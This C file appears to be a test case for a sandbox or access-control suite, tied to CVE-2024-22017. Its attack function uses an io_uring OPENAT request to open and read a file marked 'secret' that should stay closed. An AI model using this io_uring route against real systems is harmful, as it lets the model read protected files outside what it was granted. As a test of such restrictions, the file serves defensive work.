/* By io_uring.
 * stands for: CVE-2024-22017
 * grant: all
 * held: yes */
#include "attack.h"
#include "ring.h"

static long attack(void)
{
    struct ring ring;
    if (ring_make(&ring) < 0) return -1;
    int fd = ring_call(&ring, (struct io_uring_sqe){.opcode = IORING_OP_OPENAT,
                                                    .fd = AT_FDCWD,
                                                    .addr = (uintptr_t)closed("secret"),
                                                    .open_flags = O_RDONLY});
    errno = fd < 0 ? -fd : errno;
    return read_it(fd);
}
